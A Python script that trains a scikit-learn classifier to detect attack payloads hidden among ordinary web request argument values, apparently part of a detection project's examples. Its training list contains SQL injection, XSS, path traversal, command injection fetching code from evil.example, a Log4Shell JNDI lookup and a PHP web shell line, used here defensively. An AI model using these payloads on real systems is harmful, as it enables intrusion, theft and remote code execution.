#!/usr/bin/python3
"""Trains a text-payload classifier: character n-gram TF-IDF + logistic regression over the
request's argument values, saved as a scikit-learn pickle the `sklearn` adapter serves.

Run from the repository root:  /usr/bin/python3 examples/text-classifier/train.py

Pinned: Debian bookworm python3-sklearn 1.2.1, python3-numpy 1.24.2. The server feeds a text model
the argument values joined by newlines, so training texts are built the same way.

Writes saved_models/model.pkl, saved_models/manifest.json and saved_models/expected.json
(scikit-learn's own predict_proba[:, 1] on a few requests, checked by
test/examples/text-classifier.test.ts).
"""
import json
import os
import pickle

import numpy as np
import sklearn
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, 'saved_models')
RNG = np.random.default_rng(5)
WORDS = ('fish chips london paris shoes red blue cart checkout search page news sport weather report summer '
         'winter jacket invoice order account profile settings help contact about price cheap best review').split()
ATTACKS = [
    "' or 1=1 --", "' or '1'='1", '1 union select password from users', "admin'--", '1; drop table users',
    '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)',
    '"><svg onload=alert(1)>', '../../../etc/passwd', '..\\..\\windows\\win.ini', '; cat /etc/passwd',
    '| wget http://evil.example/x.sh', '`id`', '$(curl http://evil.example)', "1' and sleep(5)#",
    '{{7*7}}', '${jndi:ldap://evil.example/a}', '<?php system($_GET[c]); ?>',
]


def value():
    kind = RNG.integers(4)
    if kind == 0:
        return ' '.join(RNG.choice(WORDS, size=RNG.integers(1, 4)))
    if kind == 1:
        return str(RNG.integers(0, 100000))
    if kind == 2:
        return f'{RNG.choice(WORDS)}.{RNG.choice(WORDS)}@example.com'
    return f'{RNG.choice(WORDS)}-{RNG.integers(1, 99)}'


def arguments(attack):
    """The argument values of one request; an attack hides one payload among normal values."""
    values = [value() for _ in range(RNG.integers(0 if not attack else 1, 4))]
    if attack:
        values[RNG.integers(len(values))] = str(RNG.choice(ATTACKS))
    return values


def main():
    requests = [arguments(False) for _ in range(800)] + [arguments(True) for _ in range(400)]
    labels = [0] * 800 + [1] * 400
    model = Pipeline([
        ('tfidf', TfidfVectorizer(analyzer='char_wb', ngram_range=(2, 4), max_features=1500, sublinear_tf=True)),
        ('clf', LogisticRegression(C=10.0, max_iter=2000)),
    ]).fit(['\n'.join(values) for values in requests], labels)
    os.makedirs(OUT, exist_ok=True)
    with open(os.path.join(OUT, 'model.pkl'), 'wb') as f:
        pickle.dump(model, f, protocol=4)

    samples = [['summer jacket', '2'], ['fish.chips@example.com'], [], ["' or 1=1 --"], ['london', '<img src=x onerror=alert(1)>'],
               ['../../../etc/passwd'], ['best price', 'order-12']]
    expected = model.predict_proba(['\n'.join(v) for v in samples])[:, 1]
    with open(os.path.join(OUT, 'expected.json'), 'w') as f:
        json.dump({'sklearn': sklearn.__version__, 'args': samples, 'predict_proba[:,1]': [float(p) for p in expected]}, f, indent=1)
        f.write('\n')
    with open(os.path.join(OUT, 'manifest.json'), 'w') as f:
        json.dump({'name': 'text-char-ngrams', 'adapter': 'sklearn', 'model': 'model.pkl', 'output': 'predict_proba[:,1]',
                   'threshold': 0.5, 'anomalyWhen': 'above'}, f, indent=2)
        f.write('\n')
    print('probabilities', np.round(expected, 3), 'file', os.path.getsize(os.path.join(OUT, 'model.pkl')), 'bytes')


if __name__ == '__main__':
    main()
